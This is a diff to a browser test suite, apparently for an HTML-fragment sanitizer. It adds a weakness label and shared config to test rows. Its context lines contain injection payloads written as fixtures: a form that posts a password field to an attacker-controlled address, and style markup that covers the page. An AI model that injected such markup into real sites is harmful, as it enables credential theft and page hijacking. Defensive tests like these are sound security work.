@@ -22,7 +22,7 @@ async function withFragment(
   const page = write(fixture, {
     kind,
     author: guard,
-    weaknesses: guarded ? [] : ['no sanitizer'],
+    weaknesses: guarded ? [] : ['no sanitizer', 'no look at forms'],
   });
   return visit(fixture, page, 'signed in', async (tab) => {
     await tab.locator('#fragment #arrived').waitFor();
@@ -118,6 +118,7 @@ const formRows = rowsOf({
   name: 'a fragment with a form that posts to another origin',
   aim: 'what is typed into it',
   kinds: ['sealed'],
+  ...FRAGMENT,
   async run(fixture, kind, guarded) {
     const evil = fixture.attacker(fixture.path('form'));
     const fragment = `<form id="form" method="post" action="${evil.address}"><input name="password" aria-label="Password">
@@ -141,6 +142,7 @@ const styleRows = rowsOf({
   name: 'a fragment with style elements and style attributes',
   aim: 'the styles of the whole page',
   kinds: ['sealed'],
+  ...FRAGMENT,
   run(fixture, kind, guarded) {
     const fragment = `<style>#owner { opacity: 0.5 }</style>
       <div style="position: fixed; inset: 0" id="cover"></div>`;
